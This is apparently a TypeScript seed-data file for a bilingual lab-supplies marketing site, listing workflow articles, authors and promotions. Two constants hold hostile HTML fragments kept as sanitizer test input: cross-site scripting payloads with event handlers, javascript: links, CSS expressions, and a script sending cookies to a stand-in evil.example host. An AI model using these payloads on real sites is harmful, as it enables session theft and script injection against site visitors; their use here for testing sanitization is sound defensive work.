      'Virtual workflow: hot-start PCR set-up',
      '虚拟工作流程：热启动 PCR 配制',
      'virtual-workflow',
      'pcr',
      ['enzymes', 'pcr-thermal-cyclers'],
    ],
  ],
  'wf-cell-culture': [
    [
      'Cell line expansion and banking workflow',
      '细胞系扩增与建库工作流程',
      'workflow-guide',
      'culture',
      ['cell-culture-media', 'fetal-bovine-serum', 'lab-freezers'],
    ],
    [
      'Virtual workflow: aseptic passaging in a biosafety cabinet',
      '虚拟工作流程：生物安全柜内无菌传代',
      'virtual-workflow',
      'culture',
      ['serological-pipettes', 'plates-flasks'],
    ],
    [
      'Transfection to protein expression workflow',
      '从转染到蛋白表达的工作流程',
      'workflow-guide',
      'transfection',
      ['transfection-reagents', 'cell-culture-media'],
    ],
    [
      'Virtual workflow: transfecting adherent cells',
      '虚拟工作流程：贴壁细胞转染',
      'virtual-workflow',
      'transfection',
      ['transfection-reagents', 'plates-flasks'],
    ],
  ],
  'wf-protein': [
    [
      'Western blot workflow: lysis to imaging',
      '蛋白质印迹工作流程：从裂解到成像',
      'workflow-guide',
      'wb',
      ['buffers-solutions', 'protein-standards', 'secondary-antibodies'],
    ],
    [
      'Virtual workflow: western blot transfer and detection',
      '虚拟工作流程：蛋白质印迹转膜与检测',
      'virtual-workflow',
      'wb',
      ['secondary-antibodies', 'protein-standards'],
    ],
    [
      'Protein quantitation workflow: lysis, BCA and normalization',
      '蛋白定量工作流程：裂解、BCA 与归一化',
      'workflow-guide',
      'protein',
      ['protein-standards', 'microplate-readers'],
    ],
    [
      'ELISA workflow: coating to readout',
      'ELISA 工作流程：从包被到读数',
      'workflow-guide',
      'elisa',
      ['plates-flasks', 'microplate-readers'],
    ],
    [
      'Virtual workflow: ELISA plate reading and curve fitting',
      '虚拟工作流程：ELISA 读板与曲线拟合',
      'virtual-workflow',
      'elisa',
      ['microplate-readers', 'pipettes'],
    ],
  ],
  'ind-academic': [
    [
      'Solutions for shared flow cytometry core facilities',
      '流式细胞共享平台解决方案',
      'solution-brief',
      'flow',
      ['flow-cytometry-antibodies', 'centrifuges'],
    ],
    [
      'Setting up a new lab: a checklist for new PIs',
      '新建实验室：青年 PI 采购清单',
      'solution-brief',
      'basics',
      ['pipettes', 'centrifuges', 'co2-incubators'],
    ],
    [
      'Teaching-lab essentials for university courses',
      '高校教学实验室必备',
      'solution-brief',
      'basics',
      ['pipette-tips', 'gloves'],
    ],
    [
      'A university genomics core scales up qPCR',
      '高校基因组平台扩大 qPCR 通量',
      'case-study',
      'pcr',
      ['pcr-thermal-cyclers', 'molecular-biology-reagents'],
    ],
  ],
  'ind-biopharma': [
    [
      'Cell line development and bioproduction',
      '细胞株开发与生物生产',
      'solution-brief',
      'culture',
      ['cell-culture-media', 'supplements-reagents'],
    ],
    [
      'QC of biologics: protein assays and impurity testing',
      '生物药质控：蛋白检测与杂质分析',
      'solution-brief',
      'protein',
      ['protein-standards', 'microplate-readers'],
    ],
    [
      'Accelerating antibody screening in drug discovery',
      '加速药物发现中的抗体筛选',
      'case-study',
      'elisa',
      ['primary-antibodies', 'microplate-readers'],
    ],
    [
      'GMP-ready cell culture media',
      '符合 GMP 要求的细胞培养基',
      'webinar',
      'culture',
      ['cell-culture-media', 'fetal-bovine-serum'],
    ],
  ],
  'ind-clinical': [
    [
      'Sample handling for clinical research labs',
      '临床研究实验室样本处理',
      'solution-brief',
      'storage',
      ['centrifuge-tubes', 'centrifuges'],
    ],
    [
      'Nucleic acid workflows for molecular diagnostics research',
      '分子诊断研究的核酸工作流程',
      'solution-brief',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'Biobanking at −80 °C: protecting sample integrity',
      '−80 °C 生物样本库：保护样本完整性',
      'white-paper',
      'storage',
      ['lab-freezers', 'centrifuge-tubes'],
    ],
    [
      'Immune monitoring panels for translational research',
      '转化研究中的免疫监测抗体组合',
      'case-study',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
  ],
  'ind-food-environment': [
    [
      'Pathogen detection in food by real-time PCR',
      '实时荧光 PCR 检测食品病原体',
      'solution-brief',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'Water quality testing: sample prep and consumables',
      '水质检测：样品前处理与耗材',
      'solution-brief',
      'buffer',
      ['solvents', 'centrifuge-tubes'],
    ],
    [
      'An environmental lab cuts pipetting errors',
      '环境检测实验室减少移液误差',
      'case-study',
      'basics',
      ['pipettes', 'pipette-tips'],
    ],
    ['Residue analysis: solvent purity matters', '残留分析：溶剂纯度至关重要', 'white-paper', 'buffer', ['solvents']],
  ],
  'brand-reagents': [
    [
      'Invitrogen: antibodies and reagents for discovery',
      'Invitrogen：助力科学发现的抗体与试剂',
      'brand-story',
      'if',
      ['primary-antibodies', 'secondary-antibodies', 'fluorescent-dyes'],
      'Invitrogen',
    ],
    [
      'eBioscience: the flow cytometry portfolio',
      'eBioscience：流式细胞产品组合',
      'brand-story',
      'flow',
      ['flow-cytometry-antibodies', 'isotype-controls'],
      'eBioscience',
    ],
    [
      'Pierce: protein biology made reliable',
      'Pierce：可靠的蛋白质生物学工具',
      'brand-story',
      'protein',
      ['protein-standards', 'buffers-solutions', 'antibody-labeling-kits'],
      'Pierce',
    ],
    [
      'Gibco: cell culture you can trust',
      'Gibco：值得信赖的细胞培养',
      'brand-story',
      'culture',
      ['cell-culture-media', 'fetal-bovine-serum', 'supplements-reagents'],
      'Gibco',
    ],
    [
      'Applied Biosystems: PCR and qPCR chemistry',
      'Applied Biosystems：PCR 与 qPCR 化学试剂',
      'brand-story',
      'pcr',
      ['molecular-biology-reagents', 'enzymes'],
      'Applied Biosystems',
    ],
  ],
  'brand-plastics': [
    [
      'Nunc: cell culture plastics',
      'Nunc：细胞培养塑料耗材',
      'brand-story',
      'culture',
      ['plates-flasks', 'serological-pipettes', 'centrifuge-tubes'],
      'Nunc',
    ],
    [
      'Fisherbrand: everyday lab consumables',
      'Fisherbrand：日常实验室耗材',
      'brand-story',
      'basics',
      ['gloves', 'pipette-tips', 'centrifuge-tubes'],
      'Fisherbrand',
    ],
    [
      'Thermo Scientific tips and tubes',
      'Thermo Scientific 吸头与离心管',
      'brand-story',
      'basics',
      ['pipette-tips', 'centrifuge-tubes'],
      'Thermo Scientific',
    ],
  ],
  'brand-instruments': [
    ['Thermo Scientific centrifuges', 'Thermo Scientific 离心机', 'brand-story', 'basics', ['centrifuges']],
    [
      'Thermo Scientific PCR and real-time PCR systems',
      'Thermo Scientific PCR 与实时荧光定量 PCR 系统',
      'brand-story',
      'pcr',
      ['pcr-thermal-cyclers'],
    ],
    [
      'Thermo Scientific cold storage and incubators',
      'Thermo Scientific 低温存储与培养箱',
      'brand-story',
      'storage',
      ['lab-freezers', 'co2-incubators'],
    ],
    [
      'Thermo Scientific pipettes and microplate readers',
      'Thermo Scientific 移液器与酶标仪',
      'brand-story',
      'basics',
      ['pipettes', 'microplate-readers'],
    ],
  ],
  'camp-promotions': [
    ['Flow cytometry antibody savings', '流式抗体优惠', 'campaign', 'flow', ['flow-cytometry-antibodies']],
    [
      'Cell culture stock-up event',
      '细胞培养囤货季',
      'campaign',
      'culture',
      ['cell-culture-media', 'fetal-bovine-serum'],
    ],
    [
      'Buy more, save more on tips and tubes',
      '吸头与离心管多买多省',
      'campaign',
      'basics',
      ['pipette-tips', 'centrifuge-tubes'],
    ],
    ['New customer welcome offer', '新客户专享优惠', 'campaign', 'wb', ['primary-antibodies', 'secondary-antibodies']],
    [
      'Flash sale week: lab essentials',
      '限时秒杀周：实验室必备',
      'campaign',
      'basics',
      ['gloves', 'pipette-tips', 'serological-pipettes'],
    ],
  ],
  'camp-events': [
    [
      'Flow cytometry user meeting, Shanghai',
      '流式细胞术用户大会（上海）',
      'event',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
    [
      'qPCR masterclass webinar series',
      'qPCR 大师课网络研讨会系列',
      'webinar',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'Instrument demo days roadshow',
      '仪器体验日巡展',
      'event',
      'basics',
      ['centrifuges', 'pipettes', 'microplate-readers'],
    ],
    ['Cell culture summit, Bengaluru', '细胞培养峰会（班加罗尔）', 'event', 'culture', ['cell-culture-media']],
  ],
  'camp-new-products': [
    [
      'New: bright polymer dye conjugates for flow',
      '新品：用于流式的高亮聚合物染料偶联抗体',
      'new-product',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
    ['New: energy-efficient ultra-low freezers', '新品：节能型超低温冰箱', 'new-product', 'storage', ['lab-freezers']],
    [
      'New: chemically defined serum-free medium',
      '新品：化学成分限定无血清培养基',
      'new-product',
      'culture',
      ['cell-culture-media'],
    ],
    ['New: low-retention filter tips', '新品：低吸附滤芯吸头', 'new-product', 'basics', ['pipette-tips']],
  ],
}

export const AUTHORS: [string, string][] = [
  ['Application Science Team', '应用科学团队'],
  ['Technical Support Team', '技术支持团队'],
  ['Dr. Li Wei, Field Application Scientist', '李伟博士，现场应用科学家'],
  ['Dr. Priya Nair, Cell Biology Specialist', 'Priya Nair 博士，细胞生物学专家'],
  ['Dr. Chen Jing, Genomics Specialist', '陈静博士，基因组学专家'],
  ['Marketing Team', '市场部'],
]

/**
 * What an editor might paste from another tool. Seeded into a few articles and a promotion, then
 * sanitized before storage: none of the dangerous parts may survive (tests/server/marketing*.test.ts).
 */
export const HOSTILE_FRAGMENT_EN =
  `<p class="MsoNormal" style="color:red;width:expression(alert('x'))">Editor's note: updated for this season.</p>` +
  `<script>document.location='https://evil.example/?c='+document.cookie</script>` +
  `<img src="x" onerror="alert('xss')">` +
  `<p><a href="javascript:alert('xss')">Download the PDF</a> <a href="JaVaScRiPt&colon;alert(1)">mirror</a></p>` +
  `<iframe src="https://evil.example/embed" width="600">embedded player</iframe>` +
  `<img src="https://tracker.example/pixel.gif" width="1" height="1">` +
  `<p onmouseover="alert(1)">Contact your local representative for details.</p>` +
  `<style>body{background:url("javascript:alert(1)")}</style>`
export const HOSTILE_FRAGMENT_ZH =
  `<p style="behavior:url(x.htc);width:expression(alert(1))">编者按：本季内容已更新。</p>` +
  `<script>alert('xss')</script>` +
  `<img src=x onerror=alert(1)>` +
  `<p><a href="javascript:alert(1)">下载 PDF</a></p>` +
  `<iframe src="https://evil.example/embed">播放器</iframe>` +
  `<p onclick="alert(1)">详情请联系当地销售代表。</p>`

// ---------------- promotions ----------------
export type PromoStatusPlan = 'active' | 'upcoming' | 'expired'
export interface PromotionDef {
  id: string
  category: string
  subject: string
  en: string
  zh: string
  summaryEn: string
  summaryZh: string
  /** product leaf categories the featured products come from */
  leaves: string[]
  plan: PromoStatusPlan
  discount: number
}
export const PROMOTIONS: PromotionDef[] = [
  {
    id: 'PR1001',
    category: 'antibodies',
    subject: 'flow-cytometry-antibody-savings',
    en: 'Save 25% on flow cytometry antibodies',
    zh: '流式抗体 75 折',
    summaryEn: 'Build your next panel for less: 25% off selected flow cytometry antibodies and isotype controls.',
    summaryZh: '精选流式抗体及同型对照 75 折，轻松搭建下一套抗体组合。',
    leaves: ['flow-cytometry-antibodies', 'isotype-controls'],
    plan: 'active',
    discount: 25,
  },
  {
    id: 'PR1002',
    category: 'antibodies',
    subject: 'western-blot-essentials',
    en: 'Western blot essentials bundle',
    zh: '蛋白质印迹必备套装',
    summaryEn: 'Primary and secondary antibodies, ladders and buffers for western blotting at bundle prices.',
    summaryZh: '一抗、二抗、蛋白标准及缓冲液，蛋白质印迹必备，套装价更优惠。',
    leaves: ['primary-antibodies', 'secondary-antibodies', 'protein-standards'],
    plan: 'active',
    discount: 20,
  },
  {
    id: 'PR1003',
    category: 'cell-culture',
    subject: 'media-and-serum-stock-up',
    en: 'Cell culture stock-up: media and FBS',
    zh: '细胞培养囤货季：培养基与血清',
    summaryEn: 'Stock up on media, serum and supplements and save up to 30%.',
    summaryZh: '培养基、血清与添加剂囤货，最高可省 30%。',
    leaves: ['cell-culture-media', 'fetal-bovine-serum', 'supplements-reagents'],
    plan: 'active',
    discount: 30,
  },
  {
    id: 'PR1004',
    category: 'lab-plastics',
    subject: 'bulk-tips-and-tubes',
    en: 'Buy more, save more on tips and tubes',
    zh: '吸头与离心管多买多省',
    summaryEn: 'Order 5 cases of tips or tubes and get 15% off; 10 cases, 25% off.',
    summaryZh: '吸头或离心管满 5 箱享 85 折，满 10 箱享 75 折。',
    leaves: ['pipette-tips', 'centrifuge-tubes'],
    plan: 'active',
    discount: 15,
  },
  {
    id: 'PR1005',
    category: 'lab-instruments',
    subject: 'centrifuge-trade-in',
    en: 'Centrifuge trade-in programme',
    zh: '离心机以旧换新',
    summaryEn: 'Trade in any working centrifuge and receive a credit towards a new benchtop model.',
    summaryZh: '任意可运行离心机均可折价，抵扣新台式离心机费用。',
    leaves: ['centrifuges'],
    plan: 'active',
    discount: 10,
  },
  {
    id: 'PR1006',
    category: 'reagents-chemicals',
    subject: 'pcr-enzymes-offer',
    en: 'PCR and qPCR reagent offer',
    zh: 'PCR 与 qPCR 试剂优惠',
    summaryEn: 'Master mixes, polymerases and reverse transcriptases at 20% off.',
    summaryZh: '预混液、聚合酶与逆转录酶 8 折。',
    leaves: ['molecular-biology-reagents', 'enzymes'],
    plan: 'active',
    discount: 20,
  },
  {
    id: 'PR1007',
    category: 'cell-culture',
    subject: 'transfection-trial',
    en: 'Transfection reagent trial pack',
    zh: '转染试剂试用装',
    summaryEn: 'Try our lipid transfection reagents at a special trial price.',
    summaryZh: '脂质体转染试剂试用装特惠。',
    leaves: ['transfection-reagents'],
    plan: 'upcoming',
    discount: 40,
  },
  {
    id: 'PR1008',
    category: 'lab-instruments',
    subject: 'year-end-instrument-deals',
    en: 'Year-end instrument deals',
    zh: '年终仪器特惠',
    summaryEn: 'Incubators, freezers and PCR systems with extended warranty.',
    summaryZh: '培养箱、超低温冰箱与 PCR 仪享延长保修。',
    leaves: ['co2-incubators', 'lab-freezers', 'pcr-thermal-cyclers'],
    plan: 'upcoming',
    discount: 12,
  },
  {
    id: 'PR1009',
    category: 'antibodies',
    subject: 'new-customer-welcome',
    en: 'New customer welcome: first order discount',
    zh: '新客户首单优惠',
    summaryEn: 'Register and save 15% on your first antibody order.',
    summaryZh: '注册即享首单抗体 85 折。',
    leaves: ['primary-antibodies'],
    plan: 'upcoming',
    discount: 15,
  },
  {
    id: 'PR1010',
    category: 'reagents-chemicals',
    subject: 'solvents-clearance',
    en: 'Solvents clearance',
    zh: '溶剂清仓',
    summaryEn: 'HPLC and ACS grade solvents at clearance prices.',
    summaryZh: 'HPLC 与 ACS 级溶剂清仓价。',
    leaves: ['solvents'],
    plan: 'expired',
    discount: 35,
  },
  {
    id: 'PR1011',
    category: 'lab-plastics',
    subject: 'summer-plastics-sale',
    en: 'Summer plastics sale',
    zh: '夏季塑料耗材特卖',
    summaryEn: 'Plates, flasks and serological pipettes on summer sale.',
    summaryZh: '培养板、培养瓶与血清移液管夏季特卖。',
    leaves: ['plates-flasks', 'serological-pipettes'],
    plan: 'expired',
    discount: 20,
  },
  {
    id: 'PR1012',
    category: 'antibodies',
    subject: 'spring-antibody-festival',
    en: 'Spring antibody festival',
    zh: '春季抗体节',
    summaryEn: 'Secondary antibodies and labeling kits on spring offer.',
    summaryZh: '二抗与抗体标记试剂盒春季特惠。',
    leaves: ['secondary-antibodies', 'antibody-labeling-kits'],
    plan: 'expired',
    discount: 25,
  },
]
